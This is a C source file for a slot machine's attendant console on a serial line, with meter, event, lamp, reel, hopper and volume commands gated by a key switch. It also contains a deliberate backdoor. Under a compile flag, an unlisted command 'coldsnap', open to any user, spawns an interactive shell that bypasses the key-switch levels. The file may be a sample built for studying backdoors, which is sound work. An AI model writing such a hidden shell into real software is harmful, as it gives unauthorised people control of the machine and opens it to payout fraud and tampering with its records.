/*
 * reelcon - attendant's console of a slot machine.
 * Runs on the serial port behind the door (stdin/stdout of a getty line) and
 * offers meters, door and hopper tests, event list, volume and the like; a
 * key switch read from the I/O board raises the level of the attendant.
 * Hidden (-DHIDDEN): one more command in the table, shown by no help, starts
 * a shell.
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define METER_FILE  "/var/nv/meters.bin"
#define EVENT_FILE  "/var/nv/events.bin"
#define IO_BOARD    "/dev/ioboard"
#define VOLUME_FILE "/var/nv/volume"
#define MAX_WORDS   8

enum level { L_ANY, L_ATTENDANT, L_TECH };

enum meter {
	M_COIN_IN,
	M_COIN_OUT,
	M_DROP,
	M_JACKPOT,
	M_GAMES,
	M_DOOR,
	M_POWER,
	N_METERS
};

struct command {
	const char *word;
	const char *help;
	enum level level;
	int min_args;
	int (*run)(int argc, char **argv);
};

static const char *const meter_name[N_METERS] = { "coin in", "coin out", "drop",
						  "jackpot", "games",	 "door",
						  "power up" };

static const char *const event_name[] = {
	"none",		 "main door open", "main door closed", "hopper empty",
	"hopper jam",	 "reel tilt",	   "bill jam",	       "power up",
	"meter cleared", "printer paper"
};

static int done;

static enum level key_level(void)
{
	uint8_t in[4];
	int fd = open(IO_BOARD, O_RDONLY);
	ssize_t n;

	if (fd < 0)
		return L_ANY;
	n = read(fd, in, sizeof(in));
	close(fd);
	if (n != (ssize_t)sizeof(in))
		return L_ANY;
	if (in[2] & 0x80)
		return L_TECH;
	return in[2] & 0x40 ? L_ATTENDANT : L_ANY;
}

static int io_pulse(uint8_t port, uint8_t bits, int ms)
{
	uint8_t out[3] = { 'O', port, bits };
	int fd = open(IO_BOARD, O_WRONLY), rc = 0;

	if (fd < 0)
		return -1;
	if (write(fd, out, sizeof(out)) != (ssize_t)sizeof(out))
		rc = -1;
	usleep((useconds_t)ms * 1000);
	out[2] = 0;
	if (write(fd, out, sizeof(out)) != (ssize_t)sizeof(out))
		rc = -1;
	close(fd);
	return rc;
}

static int read_meters(uint32_t m[N_METERS])
{
	uint8_t raw[4 * N_METERS + 1], sum = 0;
	FILE *f = fopen(METER_FILE, "rb");
	size_t n, i;

	if (!f)
		return -1;
	n = fread(raw, 1, sizeof(raw), f);
	fclose(f);
	if (n != sizeof(raw))
		return -1;
	for (i = 0; i < sizeof(raw) - 1; i++)
		sum = (uint8_t)(sum + raw[i]);
	if (sum + raw[i] != 0xff)
		return -1;
	for (i = 0; i < N_METERS; i++)
		m[i] = (uint32_t)raw[4 * i] | (uint32_t)raw[4 * i + 1] << 8 |
		       (uint32_t)raw[4 * i + 2] << 16 |
		       (uint32_t)raw[4 * i + 3] << 24;
	return 0;
}

static int cmd_meters(int argc, char **argv)
{
	uint32_t m[N_METERS];
	int i;

	(void)argc;
	(void)argv;
	if (read_meters(m) < 0) {
		puts("meter memory bad");
		return 1;
	}
	for (i = 0; i < N_METERS; i++)
		printf("  %-10s %10lu\n", meter_name[i], (unsigned long)m[i]);
	if (m[M_COIN_IN])
		printf("  %-10s %9.2f%%\n", "payout",
		       100.0 * (m[M_COIN_OUT] + (double)m[M_JACKPOT]) /
			       m[M_COIN_IN]);
	return 0;
}

static int cmd_events(int argc, char **argv)
{
	FILE *f = fopen(EVENT_FILE, "rb");
	uint8_t e[5];
	int max = argc > 1 ? atoi(argv[1]) : 20;

	if (!f)
		return 1;
	while (max-- > 0 && fread(e, 1, sizeof(e), f) == sizeof(e)) {
		time_t t =
			(time_t)((uint32_t)e[1] << 24 | (uint32_t)e[2] << 16 |
				 (uint32_t)e[3] << 8 | e[4]);
		char when[32];
		struct tm tm;

		localtime_r(&t, &tm);
		strftime(when, sizeof(when), "%d.%m. %H:%M:%S", &tm);
		printf("  %s  %s\n", when,
		       e[0] < sizeof(event_name) / sizeof(event_name[0])
			       ? event_name[e[0]]
			       : "?");
	}
	fclose(f);
	return 0;
}

static int cmd_hopper(int argc, char **argv)
{
	int coins = argc > 1 ? atoi(argv[1]) : 1, i;

	if (coins < 1 || coins > 10) {
		puts("1 to 10 coins");
		return 1;
	}
	for (i = 0; i < coins; i++)
		if (io_pulse(3, 0x01, 250))
			return 1;
	printf("  %d coins out\n", coins);
	return 0;
}

static int cmd_lamp(int argc, char **argv)
{
	unsigned long bits = strtoul(argv[1], NULL, 0);

	(void)argc;
	return io_pulse(1, (uint8_t)bits, 1000);
}

static int cmd_reel(int argc, char **argv)
{
	int reel = atoi(argv[1]), steps = argc > 2 ? atoi(argv[2]) : 22;

	if (reel < 1 || reel > 5 || steps < 1 || steps > 200)
		return 1;
	while (steps-- > 0)
		if (io_pulse((uint8_t)(8 + reel), 0x01, 12))
			return 1;
	return 0;
}

static int cmd_volume(int argc, char **argv)
{
	FILE *f = fopen(VOLUME_FILE, argc > 1 ? "w" : "r");
	int v;

	if (!f)
		return 1;
	if (argc > 1)
		fprintf(f, "%d\n", atoi(argv[1]) % 101);
	else if (fscanf(f, "%d", &v) == 1)
		printf("  %d\n", v);
	return fclose(f);
}

static int cmd_quit(int argc, char **argv)
{
	(void)argc;
	(void)argv;
	done = 1;
	return 0;
}

#ifdef HIDDEN
__attribute__((noinline)) int cmd_coldsnap(int argc, char **argv)
{
	pid_t p = fork();
	int st = 0;

	(void)argc;
	if (p == 0) {
		execl("/bin/sh", argv[0], "-i", (char *)NULL);
		_exit(127);
	}
	if (p > 0)
		waitpid(p, &st, 0);
	return st;
}

#endif
static int cmd_help(int argc, char **argv);

static const struct command commands[] = {
	{ "help", "this list", L_ANY, 0, cmd_help },
	{ "meters", "show the meters", L_ANY, 0, cmd_meters },
	{ "events", "[n] last events", L_ATTENDANT, 0, cmd_events },
	{ "lamp", "bits: lamps on for a second", L_ATTENDANT, 1, cmd_lamp },
	{ "volume", "[0-100]", L_ATTENDANT, 0, cmd_volume },
	{ "hopper", "[n] pay out n coins", L_TECH, 0, cmd_hopper },
	{ "reel", "n [steps] turn a reel", L_TECH, 1, cmd_reel },
#ifdef HIDDEN
	{ "coldsnap", NULL, L_ANY, 0, cmd_coldsnap },
#endif
	{ "quit", "leave", L_ANY, 0, cmd_quit },
};

#define N_COMMANDS (sizeof(commands) / sizeof(commands[0]))

static int cmd_help(int argc, char **argv)
{
	enum level have = key_level();
	size_t i;

	(void)argc;
	(void)argv;
	for (i = 0; i < N_COMMANDS; i++)
		if (commands[i].help && commands[i].level <= have)
			printf("  %-8s %s\n", commands[i].word,
			       commands[i].help);
	return 0;
}

static int split(char *s, char **argv)
{
	int n = 0;

	while (n < MAX_WORDS) {
		while (isspace((unsigned char)*s))
			*s++ = 0;
		if (!*s)
			break;
		argv[n++] = s;
		while (*s && !isspace((unsigned char)*s))
			s++;
	}
	return n;
}

__attribute__((noinline)) int dispatch(int argc, char **argv)
{
	const struct command *c;

	for (c = commands; c < commands + N_COMMANDS; c++) {
		if (strcmp(c->word, argv[0]))
			continue;
		if (c->level > key_level()) {
			puts("turn the key");
			return -1;
		}
		if (argc - 1 < c->min_args) {
			printf("  %s %s\n", c->word, c->help ? c->help : "");
			return -1;
		}
		return c->run(argc, argv);
	}
	puts("?");
	return -1;
}

int main(void)
{
	char line[160], *argv[MAX_WORDS];
	int argc, rc = 0;

	puts("reel console 2.8");
	while (!done) {
		fputs(rc ? "! " : "> ", stdout);
		fflush(stdout);
		if (!fgets(line, sizeof(line), stdin))
			break;
		argc = split(line, argv);
		if (argc > 0)
			rc = dispatch(argc, argv);
	}
	return 0;
}
